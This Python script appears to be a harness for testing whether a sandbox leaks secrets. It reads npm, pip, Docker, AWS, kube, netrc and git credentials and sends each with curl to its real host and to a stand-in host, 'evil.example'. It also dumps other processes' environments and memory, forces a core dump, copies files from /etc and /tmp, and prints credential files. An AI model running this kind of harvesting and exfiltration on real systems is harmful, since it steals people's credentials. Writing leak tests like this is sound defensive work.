"""Uses every key as its client does, and then gathers all that the box can see. Somebody else looks for the keys in it."""
import base64
import os
import re
import shutil
import signal
import subprocess
import sys
import time

from rows import ARENA, each, seconds

HOME = os.environ["HOME"]
HOARD = os.path.join(ARENA, "ws/hoard")
LARGEST = 1 << 20
# Of the machine, only what belongs to this run is gathered; of a box, all.
IN_BOX = os.path.exists("/run/holdfast")


def keep(place, name, content):
    with open(os.path.join(HOARD, place), "ab") as out:
        out.write(b"\n== " + name.encode() + b"\n" + content)


def text_of(path):
    with open(os.path.join(HOME, path)) as file:
        return file.read()


def found(pattern, path):
    return re.search(pattern, text_of(path))[1]


def bearer(token):
    return ["-H", f"Authorization: Bearer {token}"]


def uses():
    """How each client sends its key."""
    yield [*bearer(os.environ["ENV_KEY"]), "https://env.example/"]
    yield ["--netrc", "https://netrc.example/"]
    yield [*bearer(found("_authToken=(.*)", ".npmrc")), "https://npm.example/"]
    yield [found("index-url = (.*)", ".config/pip/pip.conf")]
    yield ["-H", "Authorization: Basic " + found('"auth": *"(.*?)"', ".docker/config.json"), "https://docker.example/v2/"]
    pair = found("access_key_id = (.*)", ".aws/credentials") + ":" + found("secret_access_key = (.*)", ".aws/credentials")
    yield ["--aws-sigv4", "aws:amz:eu-central-1:s3", "--user", pair, "https://aws.example/bucket"]
    yield [*bearer(found('token: "?([^"}]*)', ".kube/config")), "https://kube.example/api"]
    yield [*bearer(os.environ["BASE_KEY"]), os.environ["BASE_URL"] + "/echo"]
    yield [*bearer(os.environ["COMMAND_KEY"]), "https://command.example/"]


def use_keys(*_):
    """Also where they are not good, to see what the error says."""
    for number, words in enumerate(uses()):
        for host in ("", "evil.example"):
            *options, url = words
            there = re.sub(r"(//(?:.*@)?)[\w.]+", rf"\1{host}", url) if host else url
            said = subprocess.run(["curl", "-vsgik", "-m", seconds(4), *options, there], capture_output=True)
            keep("said", f"{number}{host}", said.stdout + said.stderr)
    quiet = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
    filled = subprocess.run(["git", "-c", "credential.helper=store", "credential", "fill"], input=b"protocol=https\nhost=git.example\n\n", capture_output=True, env=quiet)
    password = re.search(b"password=(.*)", filled.stdout)[1]
    header = "Authorization: Basic " + base64.b64encode(b"dev:" + password).decode()
    listed = subprocess.run(["git", "-c", "http.sslVerify=false", "-c", f"http.extraHeader={header}", "ls-remote", "https://git.example/a.git"], capture_output=True, env={**quiet, "GIT_CURL_VERBOSE": "1", "GIT_TRACE_REDACT": "0"})
    keep("said", "git", filled.stdout + filled.stderr + listed.stdout + listed.stderr)


def processes():
    everybody = [name for name in os.listdir("/proc") if name.isdigit()]
    return everybody if IN_BOX else [name for name in everybody if ARENA.encode() in read(f"/proc/{name}/environ")]


def read(path, size=LARGEST):
    try:
        with open(path, "rb", 0) as file:
            return file.read(size)
    except OSError:
        return b""


def environments():
    keep("environments", "own", b"\0".join(f"{name}={value}".encode() for name, value in os.environ.items()))
    for process in processes():
        keep("environments", process, read(f"/proc/{process}/environ"))


def arguments():
    client = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(9)", os.environ["BASE_KEY"]])
    for process in processes():
        keep("arguments", process, read(f"/proc/{process}/cmdline"))
    return client


def memory():
    """What can be written is where a key would be, of every process that lets itself be read."""
    for process in processes():
        for line in read(f"/proc/{process}/maps").decode().splitlines():
            area, rights, *_ = line.split()
            start, end = (int(number, 16) for number in area.split("-"))
            if not rights.startswith("rw") or end - start > LARGEST * 16:
                continue
            try:
                with open(f"/proc/{process}/mem", "rb", 0) as file:
                    file.seek(start)
                    keep("memory", f"{process}-{area}", file.read(end - start))
            except OSError:
                pass


def core():
    """Of a process that has a key in its environment; it tries to have all of its memory in it."""
    script = "ulimit -c unlimited; echo 0xff > /proc/self/coredump_filter; exec python3 -c 'import os; os.abort()'"
    subprocess.run(["sh", "-c", script], cwd=HOARD, capture_output=True)


def files():
    """Where they may be expected, but for what has been gathered."""
    for root in (HOME, ARENA, *(("/run", "/tmp", "/etc", "/var/tmp", "/dev/shm") if IN_BOX else ())):
        for directory, below, names in os.walk(root):
            below[:] = [name for name in below if os.path.join(directory, name) not in (HOARD, f"{ARENA}/tools", f"{ARENA}/ws/.attack")]
            for path in (os.path.join(directory, name) for name in names):
                if os.path.isfile(path):
                    keep("files", path, read(path))


def leave():
    """What clients leave outside: a state of their own, and what they print."""
    print("\n".join(text_of(path) for path in (".netrc", ".npmrc", ".pgpass")), flush=True)
    shutil.copy(os.path.join(HOME, ".netrc"), os.path.join(HOME, ".local/state/trace"))


def gather(*_):
    attempts = [environments, memory, core, files, leave]
    client = arguments()
    for attempt in attempts:
        try:
            attempt()
        except Exception as error:
            print(attempt.__name__, repr(error), file=sys.stderr)
    open(os.path.join(ARENA, "ws/gathered"), "w").close()
    for _ in range(60):
        if os.path.exists(os.path.join(ARENA, "ws/looked")):
            break
        time.sleep(0.1)
    client.send_signal(signal.SIGKILL)
    client.wait()


os.makedirs(HOARD)
use_keys()
gather()
each(lambda row: None, grant=lambda row: None)
